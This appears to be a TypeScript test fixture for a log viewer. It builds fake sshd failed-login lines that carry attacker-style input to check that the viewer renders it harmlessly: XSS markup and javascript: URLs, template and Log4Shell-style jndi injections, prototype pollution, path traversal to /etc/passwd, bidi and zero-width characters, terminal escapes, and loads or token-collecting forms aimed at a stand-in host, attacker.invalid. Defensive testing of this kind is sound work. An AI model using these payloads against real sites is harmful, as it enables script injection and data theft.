// What attackers write into logs, in the project's own words: markup, scripts, addresses, styles, templates, characters that turn,
// hide or pile up, escapes of terminals, and far too much of it. Each with what a person must be able to read of it.

export interface Attack {
  /** Letters only: makes a message of its own, and finds it. */
  name: string;
  text: string;
  /** Parts that must be there to read, as they were written or as names of what cannot be seen. */
  shows: readonly string[];
}

/** Would be set by any script of an attack that runs. */
export const TRAP = 'turnstoneWasEntered';
const RUN = `window.${TRAP}=1`;
const ELSEWHERE = 'http://attacker.invalid';

/** Shown as it was written. */
const asWritten = (texts: Readonly<Record<string, string>>): Attack[] =>
  Object.entries(texts).map(([name, text]) => ({ name, text, shows: [text] }));

/** Shown with its odd characters named. */
const named = (texts: Readonly<Record<string, readonly [string, ...string[]]>>): Attack[] =>
  Object.entries(texts).map(([name, [text, ...shows]]) => ({ name, text, shows }));

const MARKUP = asWritten({
  scriptelement: `<script>${RUN}</script>`,
  scriptelsewhere: `<script src="${ELSEWHERE}/a.js"></script>`,
  scriptmixedcase: `</p><ScRiPt/x>${RUN}</sCrIpT >`,
  imagehandler: `<img src=x onerror="${RUN}">`,
  imagenoquotes: `<img/src=x/onerror=${RUN}>`,
  imagebeacon: `<img src="${ELSEWHERE}/pixel.gif?c=1">`,
  svgload: `<svg onload=${RUN}><circle r="9"/></svg>`,
  svgscript: `<svg><script>${RUN}</script></svg>`,
  svganimate: `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  svgforeign: `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`,
  mathlink: `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">go</maction></math>`,
  bodyload: `<body onload=${RUN}>`,
  iframesource: `<iframe src="javascript:${RUN}"></iframe>`,
  iframedocument: `<iframe srcdoc="<script>parent.${TRAP}=1</script>"></iframe>`,
  objectdata: `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  embedsource: `<embed src="${ELSEWHERE}/x.swf">`,
  linkstyle: `<link rel=stylesheet href="${ELSEWHERE}/x.css">`,
  styleelement: `<style>*{display:none}body{background:url(${ELSEWHERE}/s)}</style>`,
  styleattribute: `<div style="position:fixed;inset:0;background:red;z-index:9999">gone</div>`,
  metarefresh: `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  basehref: `<base href="${ELSEWHERE}/">`,
  formaction: `<form action="${ELSEWHERE}"><input name=token autofocus onfocus=${RUN}></form>`,
  detailstoggle: `<details open ontoggle=${RUN}><summary>x</summary></details>`,
  videosource: `<video><source onerror=${RUN}></video>`,
  audiosource: `<audio src=x onerror=${RUN}>`,
  marqueestart: `<marquee onstart=${RUN}>run</marquee>`,
  templateshadow: `<template shadowrootmode=open><slot></slot><img src=x onerror=${RUN}></template>`,
  customelement: `<x-panel onpointerover=${RUN} tabindex=1 autofocus>hover</x-panel>`,
  dialogopen: `<dialog open>Sign in again: <input type=password></dialog>`,
  commentbreak: `--><img src=x onerror=${RUN}><!--`,
  cdatabreak: `]]><script>${RUN}</script><![CDATA[`,
  titlebreak: `</title></textarea></style></script><script>${RUN}</script>`,
  attributebreak: `" autofocus onfocus="${RUN}" x="`,
  singlequotebreak: `' onmouseover='${RUN}' x='`,
  entitiesnamed: `&lt;script&gt;${RUN}&lt;/script&gt; &amp;amp; &nbsp;`,
  entitiesnumbered: `&#60;img src=x onerror=${RUN}&#62; &#x3C;b&#x3E;`,
  unclosedtag: `<img src="x" alt="and all that follows`,
});

const ADDRESSES = asWritten({
  javascripturl: `javascript:${RUN}//`,
  javascriptlink: `<a href="javascript:${RUN}">details</a>`,
  datahtml: `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  linkelsewhere: `${ELSEWHERE}/sign-in?token=`,
  markdownlink: `[click](javascript:${RUN}) ![x](${ELSEWHERE}/i.png)`,
  pathclimb: `../../../../etc/passwd%00.html?next=//attacker.invalid`,
});

const TEMPLATES = asWritten({
  mustache: `{{constructor.constructor('${RUN}')()}}`,
  svelteblock: `{@html '<img src=x onerror=${RUN}>'}{#if true}`,
  dollarbrace: '${' + RUN + '} `${' + RUN + '}`',
  serverside: `<%= system("id") %> {% raw %} #{7*7}`,
  jndilookup: '${jndi:ldap://attacker.invalid/a}',
  stylevalue: `red;}*{background:url(${ELSEWHERE}/c)}`,
  styleexpression: `expression(${RUN})`,
  prototypepollution: `{"__proto__":{"${TRAP}":1},"constructor":{"prototype":{}}}`,
  replacementpatterns: "$& $1 $` $' $$ %s %d %n",
});

const TURNED = named({
  bidioverride: ['user \u202egnp.exe\u202c here', 'U+202E', 'U+202C'],
  bidiisolate: ['\u2066admin\u2069\u2067root\u2068', 'U+2066', 'U+2069', 'U+2067', 'U+2068'],
  bidimarks: ['left\u200eright\u200farabic\u061cmark', 'U+200E', 'U+200F', 'U+061C'],
  zerowidthspace: ['ro\u200bot and ad\u200cm\u200din', 'U+200B', 'U+200C', 'U+200D'],
  wordjoiner: ['se\u2060cret\ufeffvalue', 'U+2060', 'U+FEFF'],
  softhyphen: ['pass\u00adword', 'U+00AD'],
  blankletters: ['name \u3164 \u115f \u2800 end', 'U+3164', 'U+115F', 'U+2800'],
  invisibletags: ['hello\u{e0041}\u{e0042}\u{e0043}there', 'U+E0041', 'U+E0043'],
  lineseparators: ['one\u2028two\u2029three', 'U+2028', 'U+2029'],
  privateuse: ['badge \ue000\u{f0000} end', 'U+E000', 'U+F0000'],
  markflood: [`h${'\u0301'.repeat(60)}ello`, '+60 marks'],
  emojiflood: [`${'\u{1f525}'.repeat(200)} end`, '\u{1f525}\u{1f525}\u{1f525}'],
  emojijoined: ['\u{1f468}\u200d\u{1f469}\u200d\u{1f467} family', 'U+200D'],
});

const CONTROLS = named({
  terminalcolour: ['\u001b[31mred\u001b[0m alert', 'ESC', '[31mred'],
  terminaltitle: ['\u001b]0;owned\u0007', 'ESC', ']0;owned', 'U+0007'],
  terminalclear: ['\u001b[2J\u001b[H all gone', 'ESC', '[2J'],
  terminalconeonly: ['\u009b31mred', 'U+009B'],
  backspaces: ['evil\b\b\b\bgood', 'U+0008'],
  carriagereturn: ['bad thing\rall is well', 'CR', 'all is well'],
  bellandtabs: ['ding\u0007\tdong\u000b\u000c', 'U+0007', 'U+000B', 'U+000C'],
  deletecharacter: ['x\u007fy', 'U+007F'],
});

/** Longer than anybody reads; what matters is at the far end. */
export const LONG: Attack = {
  name: 'verylongline',
  text: `${'padding '.repeat(7_500)}<b>far-end</b>`,
  shows: ['padding padding'],
};

export const ATTACKS: readonly Attack[] = [...MARKUP, ...ADDRESSES, ...TEMPLATES, ...TURNED, ...CONTROLS, LONG];

/** Names that people and configurations give, as an attacker would. */
export const NAMES = {
  source: `web "><img src=x onerror=${RUN}> \u202egpj`,
  label: `FAULT<IMG SRC=X ONERROR=ALERT(1)>\u200b`,
  note: `seen by <b onclick=${RUN}>me</b> \u202eysae\u202c \u001b[31m {{7*7}} ${ELSEWHERE}`,
  person: `<script>${RUN}</script>\u2066admin`,
} as const;

/** A few minutes ago, where Diagnose looks. */
const STARTED = Date.now() - 300_000;

/** The line of an attack: somebody failed to sign in under that name. */
export const attackLine = ({ name, text }: Attack, second = 0): string =>
  `${new Date(STARTED + second * 1_000).toISOString()} bastion sshd[411]: Failed password for invalid user ${name} ${text} from 203.0.113.7 port 4022 ssh2`;

/** Characters that turn text around, hide in it or steer a terminal: none may reach the screen as it is. */
export const UNSEEN =
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u115f\u200b-\u200f\u2028-\u202e\u2060-\u206f\u2800\u3164\ufeff\ue000-\uf8ff\u{e0000}-\u{e0fff}\u{f0000}-\u{10ffff}]/u;
